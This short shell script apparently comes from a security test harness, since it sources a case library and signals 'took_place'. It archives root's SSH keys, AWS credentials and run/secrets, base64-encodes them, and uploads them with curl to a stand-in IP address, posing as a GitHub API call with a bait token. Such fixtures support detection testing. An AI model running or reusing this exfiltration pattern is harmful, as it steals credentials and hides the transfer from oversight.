#!/bin/sh
. /opt/case/case.sh

tar -C / -czf - root/.ssh root/.aws run/secrets 2>/dev/null | base64 -w0 >/tmp/.b
printf '{"message": "docs", "content": "%s"}' "$(cat /tmp/.b)" |
    curl -sf -X PUT -H 'Host: api.github.com' -H 'Authorization: token ghp_bait' -o /dev/null -d @- http://203.0.113.10/repos/x/notes/contents/a.txt
took_place
